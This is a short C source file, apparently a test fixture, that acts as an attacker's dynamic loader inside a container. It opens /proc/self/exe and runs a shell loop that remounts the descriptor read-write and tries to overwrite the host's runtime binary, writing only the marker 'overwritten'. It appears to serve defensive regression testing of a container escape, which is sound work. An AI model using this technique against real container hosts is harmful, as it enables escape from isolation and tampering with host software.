/* A dynamic loader of the attacker's, in a root whose container executes /proc/self/exe: it runs in
 * the place of the program that the host has on its disk, takes hold of that, and goes on as a
 * shell that writes to it as soon as nobody executes it any more (until then ETXTBSY). Linked to
 * nothing, as it is loaded beside that program. */
#include <fcntl.h>

#include "raw_call.h"

static const char script[] =
    "exec 2>/dev/null; mount -o remount,bind,rw /proc/self/fd/33; touch /tmp/rw;"
    "mount --bind /proc/self/fd/33 /tmp/rw && mount -o remount,bind,rw /tmp/rw;"
    "for try in $(seq 100); do { echo overwritten >/proc/self/fd/33; } && break;"
    "{ echo overwritten >/tmp/rw; } && test -x /tmp/rw && break;"
    "usleep 10000; done; echo $try >/tmp/tried; sleep 1000";

void _start(void) {  // NOLINT(bugprone-reserved-identifier)
  call(__NR_dup2, call(__NR_open, (long)"/proc/self/exe", O_RDONLY, 0), 33, 0);
  static const char* const args[] = {"sh", "-c", script, 0};
  static const char* const env[] = {"PATH=/bin", 0};
  call(__NR_execve, (long)"/bin/sh", (long)args, (long)env);
  call(__NR_exit_group, 1, 0, 0);
}
